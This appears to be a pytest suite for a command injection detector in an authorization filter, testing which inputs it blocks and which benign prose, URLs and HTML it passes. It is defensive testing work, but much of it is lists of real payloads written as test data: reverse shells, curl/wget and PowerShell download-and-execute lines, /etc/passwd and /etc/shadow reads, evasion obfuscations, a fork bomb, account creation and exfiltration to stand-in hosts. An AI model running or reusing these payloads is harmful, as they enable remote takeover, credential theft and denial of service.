"""OS command injection detector: attacks by structure, prose and URLs pass."""
from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from extauthz.decode import Input
from extauthz.detect.cmdi import CommandInjection, assess
from extauthz.detect.prefilter import Prefilter
from extauthz.finding import Severity

from detect_helpers import best_cpu_ms

DETECTOR = CommandInjection()
PREFILTER = Prefilter([DETECTOR])


def verdict(value: str, kind: str = "query"):
    """What the engine would do: the trigger must fire before the detector looks."""
    if not PREFILTER.candidates(value):
        return None
    return assess(value, kind)


def blocked(value: str, kind: str = "query") -> bool:
    v = verdict(value, kind)
    return v is not None and v.severity >= Severity.HIGH


@pytest.mark.parametrize("value", [
    "a;id", ";id;", "| id", "& id", "a);/usr/bin/id|", "`id`", "$(whoami)", "x && cat /etc/passwd",
    "www.google.com;cat /etc/${a}passwd", "cat /etc/passwd", "/bin/ls -al", "ls -l /etc/passwd",
    "ping -n 30 127.0.0.1", "& ping -i 30 127.0.0.1 &", " dir c:/", "\n/bin/cat /etc/passwd",
    "c'a't /e't'c/pa's's'wd", "c$@at /et$@c/pas$@swd", "cat${IFS}/etc/passwd", "/???/c?t /e??/p??swd",
    "{cat,/etc/passwd}", "w^h^o^a^m^i", "\\ls", "pi$()ng 127.0.0.1", "'i'fconfig",
    "' ; /bin/sleep 31 ;", "\" | id", "test@example.org\"|bcdboot %SYSTEMROOT%\\win.ini",
    "a=curl&&b=`whoami`&&$a attacker.net/$b", "a=/etc&&b=/passwd&&c=cat&&$c $a$b", "|$u wget test",
    "echo dW5hbWUgLWE=|base64 -d|sh", "time sh -c whoami", "nohup whoami | sh", "sh -i >& /dev/tcp/10.0.0.1/4242 0>&1",
    "nc 10.0.0.1 4444 -e /bin/sh", "exec 5<>/dev/tcp/8.8.8.8/80", "${SHELL} -c \"echo hi\"",
    "alias eennvv=env&eennvv whoami", "for /f \"delims=\" %i in ('cmd /c dir') do echo %i",
    "IF EXIST C:\\pagefile.sys CMD", "if /i a==b foo", "Invoke-WebRequest http://example.com/x.ps1",
    ";iex (iwr http://10.0.10.10:8000/x.ps1)", "powershell C:\\windows\\system32\\notepad.exe",
    ":(){ :|:& };:", "/etc/pas[s]wd", "cd /;cd etc;comm passwd passwd", "whoami",
])
def test_attacks_block(value):
    assert blocked(value), (value, verdict(value))


@pytest.mark.parametrize("value", [
    "id", "cat", "time", "running shoes", "Tom & Jerry; id", "hello; time he came", "a hero; more than",
    "time warner", "red;$5 each", "Languages: Java | Python | Ruby", "http://x.com/?a=1&b=2",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (compatible; Embedly/0.2; snap; +http://support.embed.ly/)",
    "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "en-US,en;q=0.9,de;q=0.7",
    "Some text (in brackets).", "Go to store.\nAt the store, shop.", "don't stop me now",
    "Rock & Roll; find more | sort by price", "O'Neil's cat", "Ihre kleine Schwester; man gönnt sie sich.",
    "Mi szép, mi édes azt szeretni; mi szép az", "please call (or email) me", "sessionid=abc; theme=dark",
    "Del Ángel Kercadó", "ar$a", "Is this a test? What do you think?", "50% off; 20% more",
    "The pizza vendor was known by the alias \"pineapple\" online.", "if not defined, use the default",
])
def test_benign_passes(value):
    assert not blocked(value), (value, verdict(value))


def test_path_kind_needs_a_separator():
    assert not blocked("/usr/bin/id", kind="path")
    assert blocked("/x;id", kind="path")


def test_finding_shape():
    inp = Input("query", "host", "example.com;cat /etc/passwd", ("percent",))
    (f,) = DETECTOR.scan_input(inp)
    assert f.cls == "rce" and f.rule.startswith("cmdi.") and f.severity >= Severity.HIGH
    assert f.location == "query:host" and f.chain == ("percent",) and "cat" in f.excerpt


def test_reverse_shell_is_critical():
    assert assess("bash -c 'sh -i >& /dev/tcp/1.2.3.4/1 0>&1'").rule == "cmdi.reverse-shell"


@given(st.text(alphabet=st.sampled_from(list("ab cid;|&$(){}`'\"\\<>=*?/-\nls")), max_size=200))
@settings(max_examples=300, deadline=None)
def test_property_assess_never_raises(value):
    assess(value)
    assess(value, "header")


def test_hostile_sizes_are_bounded():
    for v in ["a;" * 4000, "'" * 8000, "$(" * 4000, "c'a't " * 1300, "{a,b}" * 1600, "/???/" * 1600]:
        t0 = time.perf_counter()
        assess(v)
        assert time.perf_counter() - t0 < 0.5, v[:12]


@pytest.mark.parametrize("value", [
    # `+` read as a space even when the value has spaces (decoded once more by the application)
    "&&+|+dir c:\\", "a;+cat+/etc/passwd and more",
    # a literal backslash-n where a line break was meant
    "\\n/usr/bin/id\\n", "|usr/bin/id\\n", "\\nid;", "\";\\\\n. shell nc 10.0.0.1 6666 -e sh\\\\n",
    # a recon command and a separator that ends the value
    "id;", "id|", "uname&",
    # ${PATH:0:1} is "/"
    "${PATH:0:1}bin${PATH:0:1}sh", "cat ${HOME:0:1}etc${HOME:0:1}passwd",
    # alias definitions, sqlite3 dot-commands, programs written with their directory
    "alias a=b", "alias +m a=b", "1;.shell whoami", "1;.\\\"shell whoami\n", "x;. system uname -a",
    ";/usr/bin/anything", "/bin/ab", "/bin/c?t /etc/p?sswd", "%COMSPEC% /c whoami",
    # cmd.exe FOR with a bare %% slot, and after a `;` (a blank to cmd)
    "FOR /F \"tokens=1,2* delims=,\" %% IN (C:\\x.txt) DO ECHO %%", ";for /f %i in ('cmd /c dir') do @set x=%i",
])
def test_more_attack_shapes_block(value):
    assert blocked(value), (value, verdict(value))


@pytest.mark.parametrize("value", [
    "cat;", "time;", "More|", "c++ programming; notes", "C:\\new\\nc.exe", "1+1=2; 2+2=4",
    "download bin/setup.exe", "a|bin/tool", "He is known by the alias Pete", "${PATH:1:3}", "x ${HOME} y",
    "shoes+socks+hats", "Tom+&+Jerry", "line one\\nline two",
])
def test_more_benign_shapes_pass(value):
    assert not blocked(value), (value, verdict(value))


@pytest.mark.parametrize("value", [
    "CMD=$'id';$CMD", ";CMD=$'{cmd}';$CMD", "|CMD=$\"/tmp/x\";$CMD", "&CMD=$\\'whatever\\';$CMD",
    "FAIL||X=/tmp/payload;$X", "\rCMD=$'x';$CMD",
])
def test_a_variable_set_in_the_value_then_run_blocks(value):
    v = verdict(value)
    assert v is not None and v.rule == "cmdi.obfuscated-command" and v.severity >= Severity.HIGH, (value, v)


@pytest.mark.parametrize("value", ["g=adduse[r];$g pizza", "a=c?t;$a /etc/hosts", "x=/bin/c[a]t;$x f"])
def test_a_glob_brought_in_by_a_variable_is_expanded(value):
    assert blocked(value), value


@pytest.mark.parametrize("value", ["$[2+2]", "$((7*7))", "$(( 41 * 271 ))", "x$[ 7 * 7 ]x", "';echo $((3+4))'"])
def test_constant_shell_arithmetic_is_a_probe(value):
    assert blocked(value), value


@pytest.mark.parametrize("value", [
    "Axel Smith", "Finger Food Catering", "Nice Guy Eddie", "price $[5]", "echo $((7))", "$[]", "$((-5))",
    "costs $1 ; per item", "total=$1;$2 shipping", "a=b; c=d",
])
def test_names_and_lookalikes_pass(value):
    assert not blocked(value), (value, verdict(value))


def test_positional_parameters_hide_a_command():
    assert blocked(";wh$1oami") and blocked("|c$9at /etc/hosts")


@pytest.mark.parametrize("value", [
    "& net localgroup administrators", "net localgroup administrators /add", "reg query HKLM\\Software",
    "| net share", "&& sc query state= all", "net user hacker P@ss /add",
])
def test_windows_subcommands_make_a_command_line(value):
    assert blocked(value), (value, verdict(value))


@pytest.mark.parametrize("value", ["Net user growth was 5 percent", "net user", "Net Share", "Our net share of the market",
                                   "reg query", "the sc query"])
def test_subcommand_words_in_labels_and_prose_pass(value):
    assert not blocked(value), (value, verdict(value))


@pytest.mark.parametrize("value", ['|"i"d', ";'c'at /etc/hosts", '|i"d"', "| pow^ershell whoami", "&who^ami"])
def test_quotes_and_carets_right_after_a_separator_are_read(value):
    assert blocked(value), (value, verdict(value))


@pytest.mark.parametrize("value", ["AT&T", "at&t", "AT&T wireless", "AT&T; Verizon", "I use AT&T"])
def test_glued_ampersand_abbreviations_pass(value):
    assert not blocked(value), (value, verdict(value))


@pytest.mark.parametrize("value", ["id&whoami", "at&id", "id;x", "id&", "a&id"])
def test_commands_glued_to_an_ampersand_still_block(value):
    assert blocked(value), (value, verdict(value))


@pytest.mark.parametrize("unit", [";*", ";[a-z]*", "|$1*", ";c*t", ";/???/*", ";/e??/p?ss??"])
def test_8k_of_repeated_globs_is_bounded(unit):
    """Each new glob pattern walks the command vocabulary: a value of hundreds of them is
    judged with a bounded number of walks (and the same pattern is matched once)."""
    value = (unit * (8192 // len(unit) + 1))[:8192]
    assess(value)
    assert best_cpu_ms(assess, value) < 20.0, unit


def test_many_distinct_globs_are_bounded():
    value = "".join(f";[a-{chr(98 + i % 20)}]{chr(97 + i % 7)}*" for i in range(1200))[:8192]
    assert best_cpu_ms(assess, value) < 25.0


@pytest.mark.parametrize("value", [";id" * 100, (";whoami" * 2000)[:8192], "uname;id;whoami"])
def test_repeated_recon_commands_are_a_chain(value):
    assert blocked(value), value[:40]


@pytest.mark.parametrize("value", ["cat;dog;bird", "time; date; more", "who; what; where"])
def test_word_lists_with_semicolons_pass(value):
    assert not blocked(value), (value, verdict(value))


@pytest.mark.parametrize("value", ["/usr/local/bin/python3", "/bin/bash", "/usr/bin/zsh", "/usr/bin/node"])
def test_an_interpreter_or_shell_path_alone_is_a_setting_not_a_block(value):
    v = assess(value)
    assert v is None or v.severity < Severity.HIGH, v


@pytest.mark.parametrize("value", ["/usr/bin/id", ";/bin/sh", "|/bin/bash", "/bin/sh -i", "/bin/cat /etc/passwd",
                                   "/usr/bin/python3 -c 'import os'"])
def test_commands_with_their_directory_still_block(value):
    v = assess(value)
    assert v is not None and v.severity >= Severity.HIGH, value


# ---------------------------------------------------------------- prose that names programs
# (package descriptions, comments, documentation: the command word is a name in a sentence)


@pytest.mark.parametrize("value", [
    # a capitalised Unix command word followed by words: sh looks commands up case-sensitively
    "APK split and selection tool", "CURL module for PHP", "GPS data graphical manager", "MySQL backend for PowerDNS",
    "OpenSSL bindings for Lua", "SQLite3 wrapper for C++", "NMAP netcat reimplementation", "SSH connection daemon",
    "Python client for Consul.io - Python 3.X", "Go language interface to Swift / Openstack / Rackspace",
    "Perl module to encode / decode geohash.org locations",
    # a lower-case command word followed by a sentence or a title
    "rsync for commercial cloud storage", "telnet client with SSL encryption support", "grep for network traffic",
    "bash script style guide checker - Python 3.x", "tmux session manager", "gzip recovery toolkit",
    "bzip2 compression/decompression library", "sudo plugin for GOsa2", "zsh documentation - info/HTML format",
    "typeset Scheme code with LaTeX", "tmux session manager (Python 3)",
    # a new line of a description that starts with a command's name
    "Description:\nbzip2 is a freely available, patent free, data compressor.",
    "Tools:\nxxd creates a hex dump of a given file or standard input.",
    "catalogs:\n    file and the package SGML catalog files in the '/etc/sgml' directory",
])
def test_sentences_naming_a_program_pass(value):
    assert not blocked(value), (value, verdict(value))


@pytest.mark.parametrize("value", [
    "GCC support library (sh4)", "Kubernetes client binary (kubectl)", "secure shell (SSH) client",
    "event notification library (openssl)", "Emacs frontend (MySQL backend)", "S-expression parser (Python3)",
    "Python ConfigParser bootstrapping library (Python3)", "Lua WSAPI plugin for uWSGI (LuaJIT)",
    "file locking (flock / LockFileEx)", "using an external program (xz --decompress)",
    "Secure Shell v2 (SSH2) protocol client", "GPS mapping (GeoTiff and vector) and GPS",
])
def test_a_parenthetical_after_a_word_is_not_a_subshell(value):
    assert not blocked(value), (value, verdict(value))


@pytest.mark.parametrize("value", [
    "features:\n * a global registry of named signals\n * anonymous signals",
    "It does:\n\n   * Making the build process easy\n   * Providing a uniform build system",
    "colorful `cat`", "try `less`, or `more`.", "use `sort` (or `uniq`) here",
])
def test_bullets_and_code_spans_in_text_pass(value):
    assert not blocked(value), (value, verdict(value))


@pytest.mark.parametrize("value", [
    # separators, substitutions and pipes into a shell are still what they are
    ";curl http://x/a.sh|sh", "$(id)", "|cat /etc/passwd", "&dir c:\\", "`id`", "x`cat /etc/hosts`", "foo `id`",
    "`cat`", "a;(id)|sh", "x (cat /etc/passwd)", "echo hi\n(curl http://x/a.sh|sh)",
    # tools with a verb or an option are a command line however plain the other words are
    "pip3 install something", "ansible-vault decrypt secret", "cscli alerts list", "ansible all -m ping",
    "time; ansible all -m ping", "nc attacker 4444", "useradd hacker", "net user hacker pass /add",
    # capitals do not hide evidence: a sensitive path, a Windows command (cmd.exe ignores case)
    "CAT /ETC/PASSWD", "; DIR C:\\", "& Whoami", "| WHOAMI",
    # globs that spell a command still do
    ";/???/c?t /e??/p?sswd", "\n/*/id", "|/bin/c?t /etc/hosts",
    # a call glued to its "(" is code, not an aside
    "<% eval request(\"cmd\") %>",
])
def test_commands_still_block_next_to_the_prose_rules(value):
    assert blocked(value), (value, verdict(value))


@pytest.mark.parametrize("value", ["Puppet module for managing /etc/hosts file",
                                   "MySQL database common files, e.g. /etc/mysql/my.cnf",
                                   "It uses the\ninformation in /etc/os-release instead of relying on LSB"])
def test_paths_named_in_a_sentence_are_left_to_the_path_rules(value):
    v = verdict(value)
    assert v is None or v.severity <= Severity.MEDIUM, (value, v)


@pytest.mark.parametrize("value", ["CAT /ETC/PASSWD", ";CAT /etc/passwd", "cat the file /etc/passwd",
                                   "x;foo /etc/passwd; cat /etc/shadow"])
def test_paths_in_command_lines_still_block(value):
    assert blocked(value), (value, verdict(value))


@pytest.mark.parametrize("value", [
    # connectives around named options and paths (changelog style)
    "Set CFLAGS to -g -O2 for build (closes: #181268)", "Call python with -S when checking the minimal set of modules.",
    "Mount /proc with -o compatible on HURD only", "Split documentation into a -doc package to avoid problems",
    # globs that pin no letter, manual page references, Makefile variables
    "[powerpc*] Don't clobber f0/vs0 during fp|altivec register save", "change x-dev to libxcursor-dev (???), and",
    "sftp(1)/scp(1): degrade gracefully if a server lacks limits", "Added $(MAKE) regtest to check valgrind",
    "vdso: Use $(LD) instead of $(CC) to link vDSO",
])
def test_changelog_sentences_pass(value):
    assert not blocked(value), (value, verdict(value))


@pytest.mark.parametrize("value", [
    "|/???/??t /e??/p?ss??", ";/bin/c?t /etc/hosts", "x`[c]at /etc/hosts`", "$(WHOAMI)", "$(id)", "`uname -a`",
    "time sh -c whoami", "& set /a 7*7 &", "| wget http://x/a.sh -O /tmp/a.sh", "; ls -la /tmp and more",
])
def test_command_lines_still_block_next_to_the_changelog_rules(value):
    assert blocked(value), (value, verdict(value))


@pytest.mark.parametrize("value", [
    "; wget http://evil/a.sh -O a.sh to the and", "; wget http://evil/a.sh to the and so on",
    ";curl http://1.2.3.4/x for the win and more", "| nc 10.0.0.1 4444 with the and", "; telnet client with the library",
    "wget http://evil/a.sh to the and so on", "&& CURL http://evil/x for the docs",
])
def test_words_padding_a_command_after_an_operator_or_around_an_address_do_not_make_a_sentence(value):
    assert blocked(value), (value, verdict(value))


def test_sentences_stay_visible_as_medium():
    """Not dropped: a capitalised or sentence-shaped command line still reports, needing company."""
    # (sh4, the SuperH CPU, is no longer read as a versioned sh: two-letter stems keep no version)
    for value in ("CURL module for PHP", "GCC support library (ksh93)", "tmux session manager"):
        v = verdict(value)
        assert v is not None and v.severity == Severity.MEDIUM, (value, v)


@pytest.mark.parametrize("value", [
    ";{cmd}", "|{cmd}|", "&&{cmd}&&", "FAIL||{cmd}", "a);{cmd}|", "\n{CMD}\n", "\\n{cmd}\\n", "`{cmd}`",
    "$({cmd})", "<{cmd};", "^CMD=$\"{cmd}\";$CMD", "^CMD=$\\'{cmd}\\';$CMD", "{cmd}",
])
def test_unfilled_injection_templates_block(value):
    v = verdict(value)
    assert v is not None and v.severity >= Severity.HIGH, (value, v)


@pytest.mark.parametrize("value", [
    "use {cmd} to run it", "{cmd} --help", 'format("{cmd}")', "x={cmd}", "the {cmd} placeholder",
    "print(f'{cmd}')",
])
def test_placeholder_in_prose_or_code_passes(value):
    assert not blocked(value), (value, verdict(value))


@pytest.mark.parametrize("value", [
    # product names and programs named in prose: capitals (Unix looks commands up case-sensitively),
    # a parenthesised remark, a program followed by ordinary words, a bullet list, a bracketed tag
    "MySQL C++ library bindings (development)", "OpenSSL bindings - Rust source code", "SSH Command Authenticator",
    "CURL module for PHP", "SQLite3 VFS for Ceph", "RPM shared library",
    "event notification library (openssl)", "abstraction used in Maven (SSH providers)", "GCC support library (sh4)",
    "Lua WSAPI plugin for uWSGI (LuaJIT)", "telnet client library", "tmux session manager",
    "rsync for commercial cloud storage", "fdisk partitioning library",
    "Data compressor.\nbzip2 is a freely available, patent free, data compressor.",
    "the following providers:\n * File\n * HTTP\n * HTTP lightweight", "[powerpc*] Don't clobber f0/vs0 during save",
])
def test_programs_named_in_prose_pass(value):
    assert not blocked(value), (value, verdict(value))


@pytest.mark.parametrize("value", [
    "cscli alerts list", "pip3 install something", "ansible-vault decrypt secret", "'TiMe Sh -c whoami",
    "(whoami)", "telnet 10.0.0.1 4444", "; rsync -av /etc/ evil.example:/x", "\nbzip2 -c /etc/shadow",
    "CAT${IFS}/etc/passwd;id",
])
def test_command_lines_beside_those_still_block(value):
    assert blocked(value), (value, verdict(value))


@pytest.mark.parametrize("value", ["curl hair products", "nc state", "bash party", "Fish & Chips", "sh*t happens"])
def test_searches_made_of_a_command_word_and_plain_words_do_not_block(value):
    """A command name that is also an English word (rules flag `e`), with only plain words after
    it as the whole value; a capitalised Unix name before `&`; a starred word opening text."""
    assert not blocked(value), verdict(value)


@pytest.mark.parametrize("value", ["curl evil.com/x.sh", "nc attacker 4444", "nc -lvp 4444", "bash x.sh", "bash -i",
                                   ";curl x", "|bash", "curl x|sh", "useradd hacker", "id;",
                                   ";curl http://1.2.3.4/x for the win and more"])
def test_the_same_commands_as_command_lines_still_block(value):
    assert blocked(value), verdict(value)


@pytest.mark.parametrize("value", [";who?mi", "|c?t x.txt", "&&una?e -a", "|w[h]oami", "$(w?oami)"])
def test_a_command_word_globbed_inside_after_a_separator_is_read(value):
    """The prefilter lets a globbed command word through after a separator, not only known names."""
    assert blocked(value), verdict(value)


@pytest.mark.parametrize("value", ["price: 5 & up*", "Defines Foo.call(*args) which invokes Foo.new(*args)",
                                   "Tom & J?", "a; b? c"])
def test_wildcards_at_a_words_end_or_start_are_text(value):
    assert not blocked(value), verdict(value)


@pytest.mark.parametrize("value", [
    # rich-text and generated HTML: end tags after words, `>(` after a tag, navigation lists
    '<li><a href="querystring.html" class="nav-querystring">Query strings</a></li>\n<li><a href="x.html">More</a></li>',
    '<div class="version">(e50aa6fba\t2026-05-19)</div><div class="sidebar">std</div>',
    '<h2>Aliased type</h2>\n<span id="Type-Example-1"></span><h4 class="subsection">2.3.5 Type</h4>',
    "<p>The <code>strings</code> tool prints text.</p>\n<p>See <em>more</em></p>",
])
def test_html_documents_are_no_command_lines(value):
    v = verdict(value, "json")
    assert v is None or v.severity < Severity.MEDIUM, v


@pytest.mark.parametrize("value", [
    "<p>hi</p><p>;cat /etc/passwd</p>", "<b>x</b>`id`", "<p>a</p><a x=$(id)>b</a>",
    "<p>x</p><p>a && wget http://1.2.3.4/x.sh -O /tmp/x</p>", "x\ncat</etc/passwd", "a\">(nc 1.2.3.4 4444)",
])
def test_payloads_inside_markup_still_block(value):
    assert blocked(value, "json"), value


@pytest.mark.parametrize("value", ["GSV 505", "NC 27601", "GCI 2024", "IEX 2025-11", "SG 4289 TH", "NC 8X699"])
def test_an_upper_case_code_and_a_number_is_no_command_line(value):
    """Licence plates, state + zip, model and form numbers: reported, but they need company."""
    v = verdict(value)
    assert v is None or v.severity <= Severity.MEDIUM, (value, v)


@pytest.mark.parametrize("value", ["gsv 505", "IEX 42", "; GCI 2024", "GCI 2024; id", "NC 10.0.0.1 4444", "WGET 1.21 -O x", "NC 10.0.0.1 443", "IWR 1-3"])
def test_commands_with_numbers_that_are_no_code_still_block(value):
    assert blocked(value), (value, verdict(value))


@pytest.mark.parametrize("value", ["head & shoulders", "find & replace", "date & time", "yes & no?", "sort & filter",
                                   "more & less", "top & bottom", "file & folder", "id & password"])
def test_two_words_joined_by_an_ampersand_are_text(value):
    """Search boxes and labels: an everyday-word command, ` & `, a word (at most MEDIUM)."""
    assert not blocked(value), (value, verdict(value))


@pytest.mark.parametrize("value", ["cat & ls", "cat & id", "cat & whoami", "head & $(id)", "find & replace;id",
                                   "& ping -n 30 127.0.0.1 &", "sort&uniq", "yes & no | sh"])
def test_ampersand_chains_that_run_something_still_block(value):
    assert blocked(value), (value, verdict(value))


DOC = "This library parses configuration files. It has a small API that is easy to use.\n" * 3


@pytest.mark.parametrize("example", [
    "Install it:\n\n    apt-get install -y valgrind\n    make -f build-aux/speedo.mk native\n",
    "```bash\nsystemctl --user start dirmngr.socket\n```\n",
    "Install it:\n\n    python -m pip install requests\n    python3 -m venv .venv\n",  # a module run by name
])
def test_install_lines_of_a_document_need_company(example):
    v = verdict(DOC + example + DOC, "json")
    assert v is None or v.severity <= Severity.MEDIUM, v


@pytest.mark.parametrize("example", [
    "    cd x; curl http://1.2.3.4/x.sh | sh\n", "    cat /etc/passwd\n", "    bash -c \"id\"\n",
    "    nc -e /bin/sh 1.2.3.4 4444\n", "    echo $(id)\n", "    python3 -m http.server 8000\n",
    "    python -m pty\n",
])
def test_payload_lines_in_a_document_still_block(example):
    assert blocked(DOC + example + DOC, "json"), example
    assert blocked(example.strip(), "json")


@pytest.mark.parametrize("value", ["(?i)^[a-z0-9._%+-]+@[a-z0-9.-]+\\.[a-z]{2,}$", "(?s)<title>(.*?)</title>",
                                   "(?s)<b>(.*?)</b>", "(?is:<p>.*</p>)", "(?m)^#(.*)$"])
def test_regex_inline_flags_are_no_globbed_command(value):
    """`(?i)`, `(?s)`: a validation pattern or log filter, not a subshell running `vi` or `ls`."""
    assert not blocked(value), (value, verdict(value))


@pytest.mark.parametrize("value", ["$(?s)", ";/???/?s", "(/???/?s)", ";c?t /etc/passwd"])
def test_globbed_commands_in_shell_positions_still_block(value):
    assert blocked(value), (value, verdict(value))


def test_a_module_run_by_name_outside_a_document_keeps_its_weight():
    for v in ("; python -m pip install evil", "| python3 -m pip install x", "python3 -m http.server 8000"):
        assert blocked(v), (v, verdict(v))


def test_a_list_of_data_files_in_parentheses_is_no_subshell():
    """`(/etc/passwd and /etc/group)`: a data file is no command; the path rules weigh the paths."""
    v = assess("This package provides the user database files\n(/etc/passwd and /etc/group), containing ids.")
    assert v is None or v.rule != "cmdi.shell-syntax"
    assert assess("a && ./run /etc/shadow").rule == "cmdi.shell-syntax"  # an unknown program still counts
    assert assess("a | (cat /etc/shadow)").severity >= Severity.HIGH


def test_words_of_letters_skip_the_argument_checks_only_while_no_entry_is_one():
    """cmdi skips prose's arguments (words of letters) because no sensitive path is a bare word;
    a rule file naming one would turn that off rather than miss it."""
    from extauthz.lang.commands import PathList, path_list
    assert path_list().words_safe
    assert not PathList(("/etc/passwd", "shadow")).words_safe and not PathList(("secrets/",)).words_safe
    assert PathList(("/etc/passwd", "/proc/")).words_safe
    v = assess("; cat /etc/passwd and the other words of a sentence here")
    assert v is not None and v.severity >= Severity.HIGH


def test_markdown_emphasis_in_a_document_is_no_glob():
    """`**A word of caution:**` opening a line of a README matched `qwinsta` as a glob
    (`**a`): stars at a word's edges around letters are emphasis in a document. Globs that
    spell a command (wh*mi, c?t, /???/c?t) and any glob outside a document keep theirs."""
    doc = ("# Title\n\nSome intro text about the tool and what it does for you.\n\n"
           "**A word of caution:** Statistics is not a foolproof tool. If a test fails, look again.\n\n"
           "*SYSTEM REQUIREMENTS*\n\nBeing written in Python it runs anywhere. See `pip install x` and "
           "`x --help` for more.\n\n**To start using Cargo**, learn more at [The Cargo Book].\n")
    v = assess(doc, "json")
    assert v is None or v.rule != "cmdi.obfuscated-command", v
    for payload in ("x;wh*mi", ";c?t /etc/passwd", "\n*hoami\n", "a;*ami"):
        v = assess(payload, "query")
        assert v is not None and v.rule == "cmdi.obfuscated-command", payload
    v = assess(doc + "\n;wh*mi\n", "json")
    assert v is not None and v.rule == "cmdi.obfuscated-command", v
